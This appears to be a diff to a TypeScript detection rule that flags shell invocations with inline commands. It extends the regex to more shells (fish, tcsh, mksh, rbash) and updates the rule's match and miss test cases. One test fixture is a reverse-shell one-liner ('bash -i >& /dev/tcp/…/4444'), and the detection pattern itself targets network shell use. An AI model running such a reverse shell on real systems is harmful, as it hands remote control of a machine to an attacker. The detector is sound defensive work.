@@ -6,7 +6,7 @@ import { defineRule } from '../rule.ts';
 const OPTIONS = String.raw`(?:(?:[-+][A-Za-z]{1,16}|[-+][A-Za-z]{0,15}[oO]${BLANKS}[a-z_]{1,32}|--[a-z][a-z-]{1,32})${BLANKS}){0,8}`;
 
 const COMMAND = new RegExp(
-  String.raw`(?<=(${WORD_START}(?:ba|da|z|k|a)?))sh${BLANKS}${OPTIONS}(?:-[A-Za-z]{0,8}[ci][A-Za-z]{0,8}(?:${BLANKS}?(?:\$?${QUOTE}|&(?:quot|#34|#39|#x27);)|${BLANKS}\$[A-Za-z_({])|-i${BLANKS}?(?:[0-9]{0,3}<?>&?|&>)${BLANKS}?/dev/(?:tcp|udp)/)`,
+  String.raw`(?<=(${WORD_START}(?:r?ba|da|z|mk|k|a|t?c|fi)?))sh${BLANKS}${OPTIONS}(?:-[A-Za-z]{0,8}[ci][A-Za-z]{0,8}(?:${BLANKS}?(?:\$?${QUOTE}|&(?:quot|#34|#39|#x27);)|${BLANKS}\$[A-Za-z_({])|-i${BLANKS}?(?:[0-9]{0,3}<?>&?|&>)${BLANKS}?/dev/(?:tcp|udp)/)`,
   'y',
 );
 
@@ -65,7 +65,7 @@ function mayHideOption(bytes: Uint8Array, at: number): boolean {
 }
 
 /**
- * A shell given a command in quotation marks or an expansion, by any POSIX shell. The list form of APIs (`["bash","-lc","…"]`) is how
+ * A shell given a command in quotation marks or an expansion. The list form of APIs (`["bash","-lc","…"]`) is how
  * agents call their own tools and no alarm. `bash -i >& /dev/tcp/…` counts, the best known use of `-i`.
  */
 export const shellExec = defineRule({
@@ -101,13 +101,16 @@ export const shellExec = defineRule({
     'bash --noprofile --norc -eo pipefail -c "make"',
     String.raw`{"text":"run:\nbash -c 'id'"}`,
     "bash -c $'id\\n'",
+    'fish -c "id; uname"',
+    'tcsh -c "id"',
+    'mksh -c "id"',
     'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
     String.raw`{"a":"{\"b\":\"sh -c \\\"id\\\"\"}"}`,
   ],
   misses: [
     'ssh -i "~/.ssh/key.pem" me@host',
     'git push -c "x"',
-    'fish -c "x"',
+    'fish_config -c "x"',
     './build.sh -c "Release"',
     'run-bash -c "x"',
     'SHELL ["/bin/bash", "-c"]',
